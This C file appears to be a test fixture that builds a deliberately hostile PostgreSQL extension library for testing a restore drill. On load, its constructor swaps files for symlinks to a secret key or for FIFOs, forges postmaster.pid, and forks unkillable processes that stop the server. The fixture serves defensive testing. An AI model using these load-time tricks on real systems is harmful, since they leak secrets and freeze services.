/* A library in a data directory that an attacker controls. A session of the restored
 * server loads it; in production it does nothing. Compiled by the test with
 * -DSECRET="path of a key file" -DPID="production's process id" and one of -DLINKS
 * (symbolic links in the place of what the drill reads) or -DHANG (pipes in its
 * place, processes that ignore signals, a session that never answers). */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* Pg_magic_struct of PostgreSQL 15 (src/include/fmgr.h): without it the server
 * refuses the library, in production too. */
typedef struct {
	int len, version, funcmaxargs, indexmaxkeys, namedatalen, float8byval;
	char abi_extra[32];
} Magic;

const Magic *Pg_magic_func(void)
{
	static const Magic magic = {sizeof(Magic), 1500, 100, 32, 64, 1, "PostgreSQL"};
	return &magic;
}

static void replace(const char *path)
{
	char moved[512];
	snprintf(moved, sizeof moved, "%s.moved", path);
	rename(path, moved);
#ifdef LINKS
	symlink(SECRET, path);
#else
	mkfifo(path, 0666);
#endif
}

static void everything(void)
{
	FILE *f;
	replace("pg_wal/00000002.history");
	replace("../socket/server.log");
	replace("current_logfiles");
	replace("backup_manifest");
#ifdef HANG
	replace("base/1/2619");
	replace("global/pg_control");
#endif
	unlink("postmaster.pid");
	f = fopen("postmaster.pid", "w");
	if (f) {
		fprintf(f, "%s\n%s\n0\n5432\n/\n\n 1 1\nready\n", PID, "AGE-SECRET-KEY-1FORGED");
		fclose(f);
	}
	f = fopen("../evil-was-here", "w");
	if (f)
		fclose(f);
}

__attribute__((constructor)) static void load(void)
{
	char dir[512];
	if (!getcwd(dir, sizeof dir) || !strstr(dir, "lifeboat-drill-"))
		return;
	everything();
#ifdef HANG
	{
		int sig;
		for (int i = 0; i < 3; i++) {
			if (fork() == 0) { /* outlives its session, in one of its own */
				setsid();
				for (sig = 1; sig < 32; sig++)
					signal(sig, SIG_IGN);
				for (;;)
					pause();
			}
		}
		for (sig = 1; sig < 32; sig++)
			signal(sig, SIG_IGN);
		kill(getppid(), SIGSTOP); /* and so the server asks nobody to end */
		for (;;)
			pause();
	}
#endif
}
